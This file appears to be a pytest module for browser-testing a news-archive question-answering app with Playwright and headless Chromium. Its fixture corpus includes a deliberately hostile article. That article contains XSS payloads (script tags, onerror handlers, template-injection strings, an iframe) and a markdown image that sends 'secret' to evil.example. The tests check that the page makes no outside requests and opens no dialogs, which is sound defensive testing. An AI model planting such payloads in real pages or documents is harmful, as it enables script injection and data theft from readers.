"""The real app in child processes, and a real browser to read it with."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, sync_playwright

from rag.archive import Archive
from rag.config import Settings
from tests.builders import row, write_jsonl
from tests.llm_server import FakeServer, llm_server

ROOT = Path(__file__).parents[2]
ADDRESS = "Dateline is at "
FIRST_ANSWER = "first answer after "
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PATIENCE_MS = 20_000

FERRY = """LINDOW (RNA) - The Lindow ferry sank on Friday with 41 people aboard.

The ferry went down two miles off Cape Orrin, in calm weather. All 41 people were saved.

"We had four minutes to leave her," said the captain, Ilse Varga."""
HARBOUR = """The harbour of Marsk flooded on Monday after three days of rain.

Damage to the quays is put at six million crowns."""
ATTACK = """The zorbing contest <script>alert(1)</script> drew
![crowds](http://evil.example/p.png?q=secret) to <img src="http://evil.example/i.png"
onerror="alert(2)"> Plover Hill. ${alert(3)} {{constructor.constructor("alert(4)")()}}
**Bold** $x^2$.

</p></article><iframe src="http://evil.example/f"></iframe> Nothing else happened & nobody cared."""

CORPUS = [
    row(1, FERRY, title="Ferry sinks off Cape Orrin", authors=["Ada Brandt"]),
    row(2, HARBOUR, title="Marsk under water", publisher="The Packet", date="2025-06-10"),
    row(3, ATTACK, title="<img src=x onerror=alert(5)>", publisher="<b>Bold</b> News"),
]


@dataclass
class Site:
    """A running app: where it is, its archive, and what it printed so far."""

    url: str
    archive: Path
    process: subprocess.Popen[str]
    lines: list[str] = field(default_factory=list)

    def wait_for(self, start: str) -> str:
        """The rest of the first line that begins with `start`."""
        while found := [line for line in self.lines if line.startswith(start)] or self._read():
            if found[-1].startswith(start):
                return found[-1].removeprefix(start).strip()
        pytest.fail(f"the app ended without printing {start!r}: {self.lines}")

    def _read(self) -> list[str]:
        assert self.process.stdout
        line = self.process.stdout.readline()
        self.lines += [line] if line else []
        return [line] if line else []


def find_browser() -> str | None:
    """The path of a Chromium on this machine."""
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)


@contextmanager
def running_app(archive: Path, **settings: str) -> Iterator[Site]:
    """The app over `archive`, begun and not waited for; ended quietly, as by Ctrl-C."""
    environment = {
        n: v for n, v in os.environ.items() if not n.startswith(("DATELINE_", "OPENAI_"))
    }
    environment |= {
        "DATELINE_ARCHIVE": str(archive),
        "DATELINE_ENCODER": "hashing",
        "DATELINE_PORT": "0",
        **settings,
    }
    errors = archive.with_suffix(".log")
    with (
        errors.open("w", encoding="utf-8") as log,
        subprocess.Popen(
            [sys.executable, str(ROOT / "app.py")],
            cwd=archive.parent,
            env=environment,
            stdout=subprocess.PIPE,
            stderr=log,
            text=True,
        ) as process,
    ):
        try:
            yield Site("", archive, process)
        finally:
            process.terminate()
            process.communicate(timeout=30)
    assert process.returncode == 0
    assert "Traceback" not in errors.read_text(encoding="utf-8")


@dataclass(frozen=True)
class Sites:
    """`corpus` answers in the articles' own words; `samples` began empty and has a model."""

    corpus: Site
    samples: Site
    model: FakeServer


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sites]:
    """Both apps; they start at the same time."""
    folder = tmp_path_factory.mktemp("sites")
    settings = Settings(encoder="hashing")
    with ExitStack() as stack:
        model = stack.enter_context(llm_server("stalls", ["The ferry ", "sank [1]. "]))
        samples = stack.enter_context(
            running_app(
                folder / "samples", DATELINE_LLM_BASE_URL=model.url, DATELINE_LLM_MODEL="tiny"
            )
        )
        with Archive.open(folder / "corpus", settings=settings) as archive:
            archive.ingest(write_jsonl(folder / "corpus.jsonl", CORPUS))
        corpus = stack.enter_context(running_app(folder / "corpus"))
        for site in (corpus, samples):
            site.url = site.wait_for(ADDRESS)
        yield Sites(corpus, samples, model)


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:
        yield running


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    path = find_browser() or playwright.chromium.executable_path
    if not Path(path).exists():
        pytest.skip("no Chromium found: install chromium, or run `playwright install chromium`")
    opened = playwright.chromium.launch(executable_path=path, args=FLAGS)
    yield opened
    opened.close()


@dataclass
class Visitor:
    """Opens pages in sessions of their own, and sees what they did behind the reader's back."""

    browser: Browser
    requests: list[str] = field(default_factory=list)
    troubles: list[str] = field(default_factory=list)
    contexts: list[BrowserContext] = field(default_factory=list)

    def visit(
        self, site: Site, *, width: int = 1280, height: int = 800, dark: bool = False
    ) -> Page:
        """The page of a new session, ready to be typed into."""
        context = self.browser.new_context(
            viewport={"width": width, "height": height},
            color_scheme="dark" if dark else "light",
            reduced_motion="reduce",
        )
        context.set_default_timeout(PATIENCE_MS)
        self.contexts.append(context)
        page = context.new_page()
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.troubles.append(f"error: {error}"))
        page.on("dialog", lambda dialog: self.troubles.append(f"dialog: {dialog.message}"))
        page.on(
            "console",
            lambda line: self.troubles.append(line.text) if line.type == "error" else None,
        )
        page.goto(site.url)
        page.get_by_label("Question").wait_for()
        return page


@pytest.fixture
def visitor(browser: Browser, sites: Sites) -> Iterator[Visitor]:
    """A visitor whose pages ask nothing of any other host and raise no error."""
    guest = Visitor(browser)
    yield guest
    for context in guest.contexts:
        context.close()
    own = (sites.corpus.url, sites.samples.url, "data:", "blob:")
    assert [url for url in guest.requests if not url.startswith(own)] == []
    assert guest.troubles == []
